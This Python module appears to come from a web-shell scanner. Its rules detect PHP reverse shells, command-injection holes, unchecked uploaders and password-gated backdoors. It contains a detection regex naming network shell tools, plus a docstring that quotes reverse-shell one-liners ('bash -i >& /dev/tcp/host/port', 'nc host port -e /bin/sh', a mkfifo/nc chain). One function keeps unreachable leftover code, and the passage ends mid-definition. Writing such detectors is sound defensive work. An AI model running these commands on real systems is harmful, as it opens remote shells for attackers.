"""Rules about web shells: shell execution from the request, reverse shells, file managers,
unchecked uploaders, reconnaissance and config grabbers, WordPress account backdoors.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterable, Iterator

from spamtrace.scanner.cmdline import hole_program, script_command
from spamtrace.scanner.context import (
    CURLOPT_URL,
    EXEC_NAMES_B,
    FETCH_CALLS,
    GLOBALS_SINKS,
    KEEP,
    NAME_BYTES,
    NAME_P,
    NOT_CALL_BEFORE,
    PLACEHOLDER,
    READ_CALLS,
    REMOTE_FETCH,
    SESSION_LISTS,
    SESSION_READS,
    SINK_NAMES,
    SOCKET,
    TAIL_LITERAL,
    TAIL_RHS,
    UIN_RE,
    VAR,
    WP_LOGIN_CALLS,
    WP_USER_CALLS,
    Ctx,
    Hit,
    bounded_finditer,
    bounded_search,
    braced,
    calls_to,
    checked_value,
    close_paren,
    decoded_payloads,
    excerpt,
    expression,
    feature,
    find_calls,
    first_arg,
    first_varcall,
    function_bodies,
    function_body,
    function_params,
    has_any,
    has_request_words,
    has_word,
    interpolated,
    literals_matching,
    opened_for,
    pattern_words,
    per_file,
    prefiltered_finditer,
    prefiltered_search,
    recipient_literals,
    request_input_in_code,
    search_needing,
    site_session_gated,
    string_at,
    string_hit,
    string_text,
    top_args,
    var_assigns,
    var_mentions,
    varcalls,
    web_address,
    words_finditer,
)
from spamtrace.scanner.features.execution import tainted_exec_hole, tainted_exec_signed_in
from spamtrace.scanner.lexer import STR_MARK, find
from spamtrace.scanner.rules import Rule, builtin_macro
from spamtrace.scanner.rx import tight
from spamtrace.scanner.taint import (
    IF_AT,
    REQ_RE,
    assignment_before,
    encoded_argument,
    param_arguments,
    posted,
    server_set_masked,
    shell_quoted_removed,
    taint,
    variable_holding,
)

# what follows "$var" in an assignment, for _var_assigns
_TAIL_ANY = tight(rb"\s*=[^;]{0,160}")


_SHELL_PATH = tight(rb"/bin/(?:ba|z|k|c|tc|da)?sh\b|\bsh -i\b|cmd\.exe|powershell")


@feature("exec_request_input")
def _exec_request_input(ctx: Ctx, rule: Rule) -> Hit | None:
    """A shell command run from request input (the rule's pattern), where the input is not a
    value the server sets: the pattern runs over the code with those masked
    (:func:`taint.server_set_masked`), in a file where it matches at all (the masks take
    matches away, never make one: most files are done with one search). A call that is a
    command injection hole of the site's own (:func:`cmdline.hole_program`) is passed over:
    shell.exec-request-argument's."""
    return _exec_request_input_hit(ctx, rule, holes=False)


def _exec_request_input_hit(
    ctx: Ctx, rule: Rule, *, holes: bool, signed: bool = False
) -> Hit | None:
    """The first call of :func:`_exec_request_input` whose command the visitor chooses;
    with ``holes``, the first one that runs a fixed program with request data among its
    arguments (:func:`cmdline.hole_program`), told as such; with ``signed``, the first one
    that runs only behind the site's own login (:func:`site_session_gated`)."""
    assert rule.regex is not None
    if bounded_search(rule.regex, ctx.code, ctx.first) is not None:
        for m in bounded_finditer(rule.regex, server_set_masked(ctx), 50, first=ctx.first):
            gated = site_session_gated(ctx, m.start())
            if signed or gated:
                if signed and gated:
                    return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
                continue
            program = hole_program(ctx, m.start())
            if (program is not None) != holes:
                continue
            return _hole_hit(ctx, m.start(), ctx.excerpt_code(m.start(), m.end()), program)
    return None


def _hole_hit(ctx: Ctx, start: int, text: str, program: bytes | None) -> Hit:
    if program is not None:
        text = f"arguments of {program.decode('ascii', 'replace')}: {text}"
    return Hit(ctx.line_of_code(start), text)


_COMMAND_OF_THE_VISITOR = ("shell.exec-request-input", "shell.exec-tainted")


_COMMAND_OR_HOLE = (*_COMMAND_OF_THE_VISITOR, "shell.exec-request-argument")


@feature("exec_request_signed_in")
def _exec_request_signed_in(ctx: Ctx, rule: Rule) -> Hit | None:
    """A console of the site's own admin: a shell command from request input that runs only
    for a visitor the site's login let in (``if (empty($_SESSION['admin'])) { header(...);
    exit; }``, a key the file never sets; WordPress's current_user_can()), where no call
    runs a command of a visitor's without it (:func:`site_session_gated`)."""
    hits = ctx.cache.get("hits", {})
    if any(rid in hits for rid in _COMMAND_OR_HOLE):
        return None  # a command of any visitor's already found: the console adds nothing
    hit = _exec_request_input_hit(ctx, rule, holes=False, signed=True)
    return hit if hit is not None else tainted_exec_signed_in(ctx, rule)


@feature("exec_argument_hole")
def _exec_argument_hole(ctx: Ctx, rule: Rule) -> Hit | None:
    """A command injection hole: a shell call of the script's own that runs a fixed
    program (a literal first word, no shell or interpreter or downloader) with request
    data among its arguments, whose output the visitor does not get back and whose other
    parts are not quoted (:func:`cmdline.hole_program`), where no call lets the visitor
    choose the command (those are shell.exec-request-input's and shell.exec-tainted's)."""
    hits = ctx.cache.get("hits", {})
    if any(rid in hits for rid in _COMMAND_OF_THE_VISITOR):
        return None  # a command of the visitor's already found: the hole adds nothing
    hit = _exec_request_input_hit(ctx, rule, holes=True)
    return hit if hit is not None else tainted_exec_hole(ctx, rule)


@feature("reverse_shell")
def _reverse_shell(ctx: Ctx, rule: Rule) -> Hit | None:
    sock = bounded_search(SOCKET, ctx.code, ctx.first)
    if sock is None or not (
        calls_to(ctx, EXEC_NAMES_B, 1) or has_word(ctx, b"pcntl_fork") or has_word(ctx, b"dup2")
    ):
        return None
    if not prefiltered_search(_SHELL_PATH, string_text(ctx)) and not _socket_as_stdio(ctx):
        return None
    return Hit(ctx.line_of_code(sock.start()), ctx.excerpt_code(sock.start(), sock.end() + 60))


# a connection as a stream: what a socket call returns
_STREAM_OPEN = tight(
    rb"\s*=\s*@?\s*(?:fsockopen|pfsockopen|stream_socket_client|stream_socket_accept|"
    rb"socket_export_stream|socket_import_stream)\s*\("
)


def _socket_as_stdio(ctx: Ctx) -> bool:
    """proc_open() given a connection as the program's stdin, stdout or stderr (``array(0 =>
    $sock, 1 => $sock, 2 => $sock)``, written in the call or in a variable it is given):
    whatever program it starts talks to the peer, with no shell's name in the script (``sh``,
    a command of the peer's). A program's own pipes are ``array('pipe', 'r')``."""
    for _start, args in calls_to(ctx, (b"proc_open",), 10):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        spec = [parts[1]]
        for var in VAR.findall(parts[1])[:2]:
            spec.extend(m.group(1) for _, m in var_assigns(ctx.code, var, TAIL_RHS, 3))
        for var in set(VAR.findall(b" ".join(spec))[:8]):
            if var_assigns(ctx.code, var, _STREAM_OPEN, 1):
                return True
    return False


# a command that ties a shell to a network connection with a system tool: bash's /dev/tcp,
# netcat given a program to run (-e/-c), a named pipe fed to a shell and to netcat, socat
# running a program, telnet piped into a shell
_NET_SHELL = tight(
    rb"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)(?:\.\w+)?\b[^\n;|&]{0,80}?\s-[a-z]*[ec]\s*[/\w]|"
    rb"\bmkfifo\b[^\n]{0,160}?\|\s*(?:/bin/)?n(?:c|cat|etcat)\b|"
    rb"\bsocat\b[^\n]{0,160}?\bexec:|"
    rb"\btelnet\b[^\n]{0,80}?\|\s*(?:/bin/)?(?:ba)?sh\b"
)
# writes to a process the script started (proc_open's or popen's stdin)
_PROC_WRITES = (b"fwrite", b"fputs")


@feature("network_shell_command")
def _network_shell_command(ctx: Ctx, rule: Rule) -> Hit | None:
    """A command that connects a shell to a host with a system tool (a reverse shell without
    a PHP socket): "bash -i >& /dev/tcp/host/port 0>&1", "nc host port -e /bin/sh", "rm
    /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc host port >/tmp/f", given to a command
    call (its literal or a variable set to one), written to the stdin of a process the script
    started, or run as a backtick command. A literal only listed (a pattern a scanner looks
    for) runs nothing."""
    value = ctx.lx.value
    kinds = ctx.lx.kinds
    if "bq" in kinds:
        for idx, raw in enumerate(ctx.lx.raw_strings[:5000]):
            if kinds[idx] == "bq" and _NET_SHELL.search(raw.lower()) is not None:
                start = find(ctx.code, b"\x01%d\x01" % idx)
                return Hit(ctx.line_of_code(max(start, 0)), excerpt(raw))
    sites = list(calls_to(ctx, EXEC_NAMES_B, 40))
    if calls_to(ctx, (b"proc_open", b"popen"), 1):
        sites += calls_to(ctx, _PROC_WRITES, 40)
    for start, args in sites:
        text = [args[:600]]
        for var in sorted(set(VAR.findall(args[:600])))[:8]:  # a variable set to the command
            text.extend(am.group(0) for _, am in var_assigns(ctx.code, var, _TAIL_ANY, 6))
        for p in itertools.islice(PLACEHOLDER.finditer(b" ".join(text)), 60):
            lit = value(int(p.group(1)))
            if len(lit) < 2000 and _NET_SHELL.search(lit.lower()) is not None:
                return Hit(ctx.line_of_code(start), excerpt(lit))
    return None


_UPLOAD = tight(rb"(move_uploaded_file|copy)\s*\(([^;]{0,300})")


_UPLOAD_CHECKS = tight(
    rb"wp_check_filetype|getimagesize|finfo_|mime_content_type|in_array|preg_match|"
    rb"wp_handle_upload|sanitize_file_name|exif_imagetype|allowed"
)
# what only finds the extension: a check when what it gives is compared
_EXTENSION_OF = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*[^;]{0,60}?(?:pathinfo|strrchr|substr\s*\(\s*strrchr|"
    rb"end\s*\(\s*explode)\s*\("
)


# a destination the script names itself: a temporary file, a hash of the client's name
_NAME_REPLACED = tight(rb"tempnam\s*\(|(?<![\w$>:])(?:md5|sha1|hash|crc32)\s*\(")
_TEMP_NAME = tight(rb"tempnam\s*\(|sys_get_temp_dir|tmpfile\s*\(|upload_tmp_dir")
_EXTENSION_COMPARED = tight(rb"(?:pathinfo|strrchr)\s*\([^;]{0,80}\)\s*(?:[!=]==?|<>)")


def _upload_checked(code: bytes) -> bool:
    """The file checks an upload's type: a type or image test, a list of allowed names, or
    an extension it finds (pathinfo, strrchr) and then compares; an extension only shown to
    the visitor is no check."""
    if _UPLOAD_CHECKS.search(code) is not None:
        return True
    for m in itertools.islice(_EXTENSION_OF.finditer(code), 10):
        var = re.escape(m.group(1))
        used = re.compile(
            rb"\$" + var + rb"\b\s*(?:[!=]==?|<>)|(?:[!=]==?|<>)\s*(?:strtolower\s*\(\s*)?\$"
            + var + rb"\b|switch\s*\(\s*(?:strtolower\s*\(\s*)?\$" + var + rb"\b"
        )
        if used.search(code, m.end()) is not None:
            return True
    # compared where it is found: if (pathinfo($n, PATHINFO_EXTENSION) !== 'jpg')
    return prefiltered_search(_EXTENSION_COMPARED, code) is not None


# the client's file name of an upload: $_FILES['f']['name'] (keys are literals)
_CLIENT_NAME = tight(rb"\$_files\s*\[\s*\x01\d+\x01\s*\]\s*\[\s*\x01(\d+)\x01\s*\]")
# an extension PHP (or a server's handler of it) runs
_RUN_EXTENSION = tight(rb"\.?(?:php\d?|pht(?:ml)?|phar|phps|inc|cgi|pl|py|sh|htaccess)")


@feature("upload_anywhere")
def _upload_anywhere(ctx: Ctx, rule: Rule) -> Hit | None:
    """An uploaded file moved to a path taken from request input (the rule's pattern: the
    request twice in the call). Not when the only request input of the destination is the
    client's file name (PHP keeps no folder of it) and the file tests that name's extension
    against its own list (``$ext = end(explode('.', $_FILES['f']['name'])); if
    (in_array($ext, $allowed))``) with no extension PHP runs written anywhere in it: a
    gallery or a mod folder that takes .zip or .jpg under the name they came with."""
    assert rule.regex is not None
    code = ctx.code
    seen: set[int] = set()
    for m in itertools.islice(bounded_finditer(rule.regex, code, first=ctx.first), 20):
        seen.add(m.start())
        if site_session_gated(ctx, m.start()):
            continue  # a page of the site's own, behind its sign-in (an admin's file manager)
        args = code[find(code, b"(", m.start()) + 1 : m.end() + 400]
        parts = top_args(args[: close_paren(args)])
        dest = parts[1] if len(parts) > 1 else b""
        names = _CLIENT_NAME.findall(dest)
        rest = _CLIENT_NAME.sub(b"", dest)
        if (
            names
            and all(ctx.lx.value(int(n)).lower() == b"name" for n in names)
            and UIN_RE.search(rest) is None
            and _extension_listed(ctx)
        ):
            continue
        return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    # the destination taken from request input through variables or an own helper
    for m in itertools.islice(_MOVE_UPLOADED.finditer(code), 20):
        if m.start() in seen or site_session_gated(ctx, m.start()):
            continue
        args = code[m.end() : m.end() + 400]
        parts = top_args(args[: close_paren(args)])
        if len(parts) >= 2 and _dest_chosen(_dest_spelled(ctx, parts[1], 3)):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    return None


_MOVE_UPLOADED = tight(rb"(?<![\w$>:])move_uploaded_file\s*\(")
# what an own helper returns
_RETURNED = tight(rb"(?<![\w$>:])return\b\s*([^;]{1,200});")
# a call of a function by its bare name
_BARE_CALL = tight(rb"(?<![\w$>:\\])([a-z_][\w]*)\s*\(")
# a name the script makes itself: a hash, a time, a random or unique id
_NAME_MADE = tight(
    rb"(?<![\w$>:])(?:uniqid|time|microtime|rand|mt_rand|random_bytes|random_int|"
    rb"tempnam|md5|sha1|hash|crc32|date|intval|sanitize_file_name|wp_unique_filename)\s*\("
)


# request input other than the upload itself (its name, type or size are the client's)
_FORM_INPUT = tight(rb"\$_(?:get|post|request|cookie)\b|\$http_(?:post|get)_vars|php://input")


def _dest_spelled(ctx: Ctx, expr: bytes, depth: int) -> bytes:
    """``expr`` followed by what its variables are assigned and what the own functions it
    calls return, ``depth`` levels down: the text a destination is made of."""
    out = [expr]
    if depth > 0:
        for var in VAR.findall(expr)[:4]:
            if var.startswith(b"_"):
                continue  # a superglobal: written out already
            for _pos, a in _rhs_sets(ctx, var):
                out.append(_dest_spelled(ctx, a.group(1), depth - 1))
        calls = _BARE_CALL.findall(expr)[:4]
        if calls:
            bodies = function_bodies(ctx)
            for name in calls:
                body = bodies.get(name)
                if body is None:
                    continue
                for r in itertools.islice(_RETURNED.finditer(body), 3):
                    out.append(_dest_spelled(ctx, r.group(1), depth - 1))
    return b" ".join(out)


def _dest_chosen(dest_spelled: bytes) -> bool:
    """A move_uploaded_file() destination whose request input is not written in the call
    (``dest_spelled``: what :func:`_dest_spelled` makes of it): a variable or a helper gives
    it a folder or name from the form, query or cookies, and the script makes no name of its
    own (a hash, uniqid(), time()). What the upload itself gives, its name, is left to
    shell.upload-unchecked."""
    if _NAME_MADE.search(dest_spelled) is not None:
        return False
    return _FORM_INPUT.search(dest_spelled) is not None


def _extension_listed(ctx: Ctx) -> bool:
    """The file finds an upload name's extension and tests it against a list
    (``in_array($ext, ...)``), and no literal of it is an extension PHP or the server runs
    (``'php'``, ``'.phtml'``): the list holds only what cannot run."""
    code = ctx.code
    listed = False
    for m in itertools.islice(_EXTENSION_OF.finditer(code), 10):
        test = re.compile(
            rb"in_array\s*\(\s*(?:strtolower\s*\(\s*)?\$" + re.escape(m.group(1)) + rb"\b"
        )
        if test.search(code, m.end()) is not None:
            listed = True
            break
    if not listed:
        return False
    value = ctx.lx.value
    return not any(
        _RUN_EXTENSION.fullmatch(value(int(i)).strip().lower()) is not None
        for i in itertools.islice(PLACEHOLDER.findall(code), 2000)
    )


_FILES_ALIAS = tight(rb"\$(" + NAME_P + rb")\s*=\s*@?\$_files\s*\[[^\]]{1,40}\]\s*;")


def _names_upload(text: bytes, aliases: tuple[bytes, ...]) -> bool:
    return b"$_files" in text or any(find(text, a + b"[") >= 0 for a in aliases)


# foreach over a list of an upload's entry: foreach ($_FILES['f']['name'] as $i => $n),
# foreach ($up['name'] as $n) (group 1: the entry, 2: the key's literal, 3: the value's name)
_FOREACH_ENTRY = tight(
    rb"foreach\s*\(\s*(\$_files\s*\[[^\]]{1,40}\]|\$" + NAME_P + rb")\s*\[\s*\x01(\d+)\x01\s*\]"
    rb"\s*as\s+(?:&?\s*\$" + NAME_P + rb"\s*=>\s*)?&?\s*\$(" + NAME_P + rb")\s*\)"
)


def _client_name_loops(ctx: Ctx, aliases: tuple[bytes, ...]) -> set[bytes]:
    """The variables a foreach binds to the client's file names of a multi-file upload
    (``foreach ($_FILES['f']['name'] as $i => $name)``, also over a variable that holds the
    upload's entry: ``$up = $_FILES['f']; foreach ($up['name'] as $name)``)."""
    code = ctx.code
    if find(code, b"foreach") < 0:
        return set()
    found = set()
    for m in itertools.islice(_FOREACH_ENTRY.finditer(code), 20):
        entry = m.group(1)
        if (entry.startswith(b"$_files") or entry in aliases) and ctx.lx.value(
            int(m.group(2))
        ).lower() == b"name":
            found.add(m.group(3))
    return found


@feature("upload_unchecked")
def _upload_unchecked(ctx: Ctx, rule: Rule) -> Hit | None:
    """An upload saved under a .php name, or under the client's own file name (each file of
    a multi-file upload under the name a foreach takes from its list of names too: foreach
    ($_FILES['f']['name'] as $i => $n)), or a name the script makes that keeps the client's
    extension: md5(time()) . '.' . $ext) with no check of the type or extension anywhere in
    the file (drop-anything uploader)."""
    code = ctx.code
    # variables that hold an uploaded file's entry ($file = $_FILES['f']): $file['name'] is
    # the client's file name, $file['tmp_name'] the upload
    aliases = tuple(b"$" + a for a in sorted(set(_FILES_ALIAS.findall(code)))[:10])
    loop_names = _client_name_loops(ctx, aliases)
    for m in prefiltered_finditer(_UPLOAD, code, ctx.first):
        args = m.group(2)
        if m.group(1) == b"copy" and b"$_files" not in args and not any(
            args.lstrip(b" @(").startswith(a + b"[") for a in aliases
        ):
            continue
        parts = top_args(args)
        dest = parts[1] if len(parts) > 1 else b""  # the call's own second argument
        lits = [ctx.lx.value(int(i)).lower() for i in PLACEHOLDER.findall(dest)]
        php_dest = any(re.search(rb"\.ph(?:p\d?|tml|ar)\b", v) for v in lits)
        shown = ctx.restore(dest).lower()
        client_name = (
            _names_upload(shown, aliases) and b"name" in shown and not _NAME_REPLACED.search(shown)
        )
        todo = sorted(set(VAR.findall(dest)))
        done: set[bytes] = set()
        # variables that hold an extension found in a name ($ext = pathinfo($n, ...)): a name
        # the script makes keeps the client's extension when it ends in one
        ext_vars = {e.group(1) for e in itertools.islice(_EXTENSION_OF.finditer(code), 10)}
        while todo and not client_name and len(done) < 8:  # two levels of variables
            var = todo.pop()
            done.add(var)
            if var in loop_names:  # each file of a multi-file upload under its client name
                client_name = True
                break
            for am_start, am in var_assigns(code, var, _TAIL_ANY, 10):
                rhs = ctx.restore(code[am_start : am.end()]).lower()
                # the name taken where the file array was ($u = $_FILES['f'] ... $u['name'])
                if (
                    _names_upload(rhs, aliases)
                    and (b"name" in rhs or b"name" in shown)
                    and not _NAME_REPLACED.search(rhs)
                ):
                    client_name = True
                    break
                if not _NAME_REPLACED.search(rhs):
                    todo.extend(v for v in VAR.findall(am.group(0)) if v not in done)
                elif _TEMP_NAME.search(rhs) is None:
                    # md5(time()) . '.' . $ext: a name of its own with the client's extension
                    # (a temporary file, tempnam(sys_get_temp_dir(), ...) . $ext, is outside
                    # the site: no page runs it)
                    todo.extend(v for v in VAR.findall(am.group(0))
                                if v not in done and v in ext_vars)
        if php_dest or (
            client_name and not _upload_checked(code)
            and not _opened_as_image(ctx, dest, m.start())
        ):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    return None


# a call that decodes an image file: GD's loaders, ImageMagick's
_IMAGE_OPEN = tight(
    rb"(?:(?<![\w$>:\\])imagecreatefrom(?:jpeg|png|gif|webp|bmp|wbmp|avif)|"
    rb"\bnew\s+\\?imagick)\s*\("
)
_FUNC_FIRST_PARAM = tight(rb"\s*(\$" + NAME_P + rb")")
_PLAIN_ASSIGN = tight(rb"\$(" + NAME_P + rb")\s*=(?![=>])\s*([^;]{1,200});")
_DEFINED_HERE = tight(rb"function\s+&?\s*\Z")


def _images_opened(ctx: Ctx, text: bytes) -> set[bytes]:
    """What ``text`` (code) gives GD's loaders or ImageMagick to open, each first argument
    as written (literals restored, spaces dropped)."""
    found = set()
    for m in itertools.islice(_IMAGE_OPEN.finditer(text), 20):
        arg = first_arg(text[m.end() : m.end() + 400])
        found.add(re.sub(rb"\s+", b"", ctx.restore(arg)))
    return found


def _scope_of(ctx: Ctx, pos: int) -> bytes:
    """The code that shares variables with the code at ``pos``: the body of the innermost
    function of the file's own around it, or the file outside every function."""
    code = ctx.code
    inner: bytes | None = None
    spans = []
    for body in function_bodies(ctx).values():
        at = find(code, body)
        if at < 0:
            continue
        spans.append((at, at + len(body)))
        if at <= pos < at + len(body) and (inner is None or len(body) < len(inner)):
            inner = body
    if inner is not None:
        return inner
    out, last = [], 0
    for start, end in sorted(spans):
        if start >= last:
            out.append(code[last:start])
            last = end
    out.append(code[last:])
    return b" ".join(out)


def _opened_as_image(ctx: Ctx, dest: bytes, pos: int) -> bool:
    """The stored upload is then decoded as an image by the script: its destination (the
    same expression, or a variable set to just that) given to GD's loader or ImageMagick
    (``imagecreatefromjpeg($file)``, ``new Imagick($file)``) directly where the upload is
    stored (the same function's body, or the file outside its functions), or as the first
    argument of a function of the file's own that loads its first parameter so
    (``resize_image($file, 500)``). A resizer or thumbnailer keeps photos under the name
    they came with; a dropper never opens what it drops as a picture."""
    code = ctx.code
    if find(code, b"imagecreatefrom") < 0 and find(code, b"imagick") < 0:
        return False
    shown = re.sub(rb"\s+", b"", ctx.restore(dest))
    names = {shown}
    if VAR.fullmatch(shown) is None:
        # literals are numbered where they stand: compare the assignments' text restored
        names |= {
            b"$" + m.group(1) for m in itertools.islice(_PLAIN_ASSIGN.finditer(code), 200)
            if re.sub(rb"\s+", b"", ctx.restore(m.group(2))) == shown
        }
    if names & _images_opened(ctx, _scope_of(ctx, pos)):
        return True
    for name, body in function_bodies(ctx).items():
        params = function_params(code, name)
        first = None if params is None else _FUNC_FIRST_PARAM.match(params.group(1))
        if first is None or first.group(1) not in _images_opened(ctx, body):
            continue
        for call_at, args in find_calls(code, (name,), 20):
            if _DEFINED_HERE.search(code, max(0, call_at - 24), call_at) is not None:
                continue  # the definition's own parameter list
            if re.sub(rb"\s+", b"", ctx.restore(first_arg(args))) in names:
                return True
    return False
    dest = dest.strip()
    held = {v.group(1) for v in [VAR.fullmatch(dest)] if v is not None}
    if not held:
        # literals are numbered where they stand: compare the assignments' text restored
        shown = ctx.restore(dest)
        held = {
            m.group(1) for m in itertools.islice(_PLAIN_ASSIGN.finditer(code), 200)
            if ctx.restore(m.group(2).strip()) == shown
        }
    if not held:
        return False
    loaded = {m.group(1) for m in itertools.islice(_IMAGE_OPEN.finditer(code), 20)}
    if held & loaded:
        return True
    for name, body in function_bodies(ctx).items():
        params = function_params(code, name)
        first = None if params is None else _FUNC_FIRST_PARAM.match(params.group(1))
        if first is None or not any(
            m.group(1) == first.group(1) for m in itertools.islice(_IMAGE_OPEN.finditer(body), 10)
        ):
            continue
        for var in held:
            call = re.compile(
                rb"(?<![\w$>:\\])" + re.escape(name) + rb"\s*\(\s*\$" + re.escape(var)
                + rb"\s*[,)]"
            )
            if call.search(code) is not None:
                return True
    return False


_FORM_TAG = tight(rb"<form\b[^>\x00]{0,400}")
_FORM_ACTION = tight(rb"\baction\s*=\s*[\"']?([^\"'\s>\x00]*)")


def _own_upload_form(ctx: Ctx) -> bool:
    """The file prints a file-upload form that posts back to itself (no action, an empty one,
    "#", or its own name: PHP_SELF, $self)."""
    text = string_text(ctx)
    if find(text, b"multipart/form-data") < 0:
        return False
    for m in itertools.islice(_FORM_TAG.finditer(text), 20):
        tag = m.group()
        if b"multipart/form-data" not in tag:
            continue
        action = _FORM_ACTION.search(tag)
        target = b"" if action is None else action.group(1)
        if target in (b"", b"#", b"?") or b"self" in target:
            return True
    return False


# where a planted uploader puts files: the site's root or the script's own folder, as the
# folder part of the destination (nothing but a separator after it)
_ROOT_DIR = tight(
    rb"^(?:\$_server\s*\[\s*'document_root'\s*\]|__dir__|dirname\s*\(\s*__file__\s*\)|"
    rb"getcwd\s*\(\s*\)|'\.[/\\\\]')(?:\s*\.\s*'[/\\\\]?')?\s*\.\s*"
)
_REQUEST_PATH = tight(rb"\$_(?:get|post|request|cookie)\b")


def _loose_destination(ctx: Ctx, dest: bytes, aliases: tuple[bytes, ...]) -> bool:
    """The upload is stored under the client's name with no folder of the script's choosing:
    the name alone (the script's own folder), the site's root or the script's folder plus the
    name, or a folder the request names. A site's upload handler keeps files in a folder of
    its own ('uploads/', 'files/')."""
    shown = ctx.restore(dest).strip().lstrip(b"@( ").lower()
    for _ in range(2):  # a variable holding the destination, or the root: two levels
        held = VAR.match(shown)
        if held is None or _names_upload(shown[: held.end() + 1], aliases):
            break
        sites = var_assigns(ctx.code, held.group(1), _TAIL_ANY, 1)
        if not sites:
            break
        rhs = ctx.restore(sites[0][1].group(0)).lower().lstrip(b" =@(").rstrip()
        shown = rhs + shown[held.end() :]
    if _REQUEST_PATH.search(shown) is not None and _FOLDER_LITERAL_HEAD.match(shown) is None:
        return True  # a folder the request names (not one under a folder the script names)
    shown = _ROOT_DIR.sub(b"", shown, count=1)
    held = VAR.match(shown)
    if held is not None and not _names_upload(shown[: held.end() + 1], aliases):
        for _, am in var_assigns(ctx.code, held.group(1), _TAIL_ANY, 1):
            shown = ctx.restore(am.group(0)).lower().lstrip(b" =@(")
    shown = _BASENAME_HEAD.sub(b"", shown, count=1)  # basename() keeps the client's name
    named = VAR.match(shown)  # a client name a foreach took from a multi-file upload
    if named is not None and named.group(1) in _client_name_loops(ctx, aliases):
        return True
    return shown.startswith(b"$_files") or any(shown.startswith(a + b"[") for a in aliases)


_BASENAME_HEAD = tight(rb"^(?:basename\s*\(\s*)+")
# a destination that starts in a folder the script names ('uploads/' . $_GET['id'] . '/'):
# the request picks a subfolder of the site's upload folder, an item's or a user's
_FOLDER_LITERAL_HEAD = tight(rb"""^["'](?:\.\.?/)*(?![.]{1,2}/)[\w.-]+/""")


# a name the script makes for the stored file (a unique or time-based part), and an SQL
# statement that records the stored file: what a site's handler does, not a planted uploader
_OWN_NAME = tight(rb"\b(?:uniqid|time|microtime|md5|sha1|rand|mt_rand|random_bytes)\s*\(")
_PHP_NAME = tight(rb"\.(?:php\d?|phtml|phar)\b")
_SQL_RECORD = tight(rb"\b(?:insert\s+into|update)\b[^;]{0,400}")


def _named_script(ctx: Ctx, dest: bytes) -> bool:
    """The upload's destination (or a variable it is built from) gets a .php name from the
    script itself."""
    shown = ctx.restore(dest).lower()
    texts = [shown]
    for var in VAR.findall(shown)[:3]:
        assigns = var_assigns(ctx.code, var, _TAIL_ANY, 4)
        texts.extend(ctx.restore(am.group(0)).lower() for _, am in assigns)
    return any(_PHP_NAME.search(t) for t in texts)


def _handled_by_site(ctx: Ctx, dest: bytes) -> bool:
    """The upload's destination (``dest``, the second argument) is named by the script (a
    unique or time-based part) or recorded in the site's database by an SQL statement."""
    shown = ctx.restore(dest).lower()
    held = VAR.findall(shown)[:3]
    texts = [shown]
    for var in held:
        sites = var_assigns(ctx.code, var, _TAIL_ANY, 4)
        texts.extend(ctx.restore(am.group(0)).lower() for _, am in sites)
    if any(_PHP_NAME.search(t) for t in texts):
        return False  # the script itself names the stored file a script: no site does that
    # a unique name that ends in the client's extension, unchecked (this runs only for an
    # unchecked upload): md5(time()) . '.' . $ext stores a .php as .php
    ext_vars = {e.group(1) for e in itertools.islice(_EXTENSION_OF.finditer(ctx.code), 10)}
    if any(v in ext_vars for t in texts for v in VAR.findall(t)):
        return False
    if any(_OWN_NAME.search(t) for t in texts):
        return True
    low = ctx.data.lower()
    if not held or (find(low, b"insert") < 0 and find(low, b"update") < 0):
        return False
    code = ctx.restore(ctx.code).lower()
    for m in itertools.islice(_SQL_RECORD.finditer(code), 20):
        if any(re.search(rb"\$" + re.escape(v) + rb"\b", m.group()) for v in held):
            return True
    return False


# request input (or a variable holding it) compared with a string literal
_COMPARED_LITERAL = tight(
    rb"(\$_(?:get|post|request|cookie)\s*\[\s*\x01\d+\x01\s*\]|\$[a-z_]\w*)\s*[!=]==?\s*\x01(\d+)\x01"
    rb"|\x01(\d+)\x01\s*[!=]==?\s*(\$_(?:get|post|request|cookie)\s*\[\s*\x01\d+\x01\s*\]|\$[a-z_]\w*)"
)


def _secret_gate(ctx: Ctx) -> bool:
    """The file lets in only a request that carries a password written in it: request input
    compared with a literal that is no plain word ('0ASD0#MZWA^JNGR$', not 'Upload'), or
    its md5/sha1 compared with a hard-coded hash. A site's upload page relies on the site's
    login; a planted one carries its own key."""
    if PASSWORD_HASH_GATE.search(ctx.code) is not None or _hash_gate_in_vars(ctx):
        return True
    req, _ = taint(ctx)
    for m in itertools.islice(_COMPARED_LITERAL.finditer(ctx.code), 50):
        side = m.group(1) or m.group(4)
        lit = m.group(2) or m.group(3)
        if not side.startswith(b"$_") and side[1:] not in req:
            continue
        value = ctx.lx.value(int(lit))
        if len(value) >= 6 and not value.replace(b" ", b"").isalpha():
            return True
    # request input compared with a variable the file sets once, to such a literal
    # ($auth_pass = "6ickz0ne"; if ($_GET['p'] !== $auth_pass))
    for m in itertools.islice(_COMPARED_HELD.finditer(ctx.code), 20):
        name = m.group(1) or m.group(2)
        sets = re.findall(rb"\$" + re.escape(name) + rb"\s*=(?![=>])\s*([^;]{0,80});", ctx.code)
        held = PLACEHOLDER.fullmatch(sets[0].strip()) if len(sets) == 1 else None
        if held is not None:
            value = ctx.lx.value(int(held.group(1)))
            if len(value) >= 6 and not value.replace(b" ", b"").isalpha():
                return True
    return False


_REQ_FIELD = rb"\$_(?:get|post|request|cookie)\s*\[\s*\x01\d+\x01\s*\]"
_COMPARED_HELD = tight(
    _REQ_FIELD + rb"\s*[!=]==?\s*\$(" + NAME_P + rb")\b(?!\s*\[)"
    rb"|\$(" + NAME_P + rb")\s*[!=]==?\s*" + _REQ_FIELD
)


_REQ_ANY = rb"\$_(?:get|post|request|cookie)\b"
# a variable set to the md5/sha1 of request input, and one set to a hash written in the file
_HASHED_REQUEST_VAR = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*(?:md5|sha1)\s*\([^;]{0,60}?" + _REQ_ANY + rb"[^;]{0,60}?;"
)
_HEX_HASH = tight(rb"[0-9a-f]{32}|[0-9a-f]{40}|[0-9a-f]{64}")


def _hash_gate_in_vars(ctx: Ctx) -> bool:
